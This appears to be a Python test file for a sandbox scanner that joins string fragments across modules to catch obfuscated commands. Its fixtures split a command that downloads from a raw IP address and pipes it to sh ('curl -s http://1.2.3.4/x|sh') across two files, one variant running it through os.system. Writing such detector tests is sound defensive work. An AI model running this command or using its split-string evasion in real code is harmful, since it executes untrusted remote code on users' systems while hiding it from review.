"""Texts that modules of Python make together are found whole; what they do not join is not."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st
from strangers_of_ours import blocking_files

from sigma_core.sandbox.joined_texts import joined_texts

HALF = 'p1 = "curl -s ht"\n'


def _texts(modules: dict[str, str]) -> list[str]:
    return [joined.text for joined in joined_texts(modules)]


def test_pieces_of_two_modules_are_one_text() -> None:
    for other in (
        'from a import p1\np2 = "tp://1.2.3.4/x|sh"\nfull = p1 + p2\n',
        'import a\nfull = a.p1 + "tp://1.2.3.4/x|sh"\n',
        'from a import p1\nfull = f"{p1}tp://1.2.3.4/x|sh"\n',
        'from .a import p1 as q\nfull = "".join([q, "tp://1.2.3.4/x|sh"])\n',
        'from a import p1\nimport os\nos.system(p1 + "tp://1.2.3.4/x|sh")\n',
    ):
        assert _texts({"a.py": HALF, "b.py": other}) == ["curl -s http://1.2.3.4/x|sh"]
        assert "SIGMA-OBF-012" in blocking_files({"a.py": HALF, "b.py": other})


def test_texts_of_one_module_and_of_unknown_pieces_are_not_joined() -> None:
    assert _texts({"a.py": HALF, "b.py": 'x = "a" + "b"\n'}) == []
    assert _texts({"a.py": HALF, "b.py": "from a import p1\nx = p1 + given\n"}) == []


def test_honest_addresses_in_two_modules_do_not_block() -> None:
    files: dict[str, str | bytes] = {
        "config.py": 'BASE = "https://api.github.com"\n',
        "run.py": 'from config import BASE\ncommand = "curl -s " + BASE + "/zen | jq ."\n',
    }
    assert "SIGMA-OBF-012" not in blocking_files(files)


@settings(max_examples=60, deadline=None)
@given(
    st.dictionaries(st.sampled_from(["a.py", "b.py", "c.py"]), st.text("fromabcimprt =+'\"\n.()[]{}x1", max_size=200))
)
def test_no_module_raises_and_order_does_not_matter(modules: dict[str, str]) -> None:
    assert _texts(modules) == _texts(dict(reversed(modules.items())))
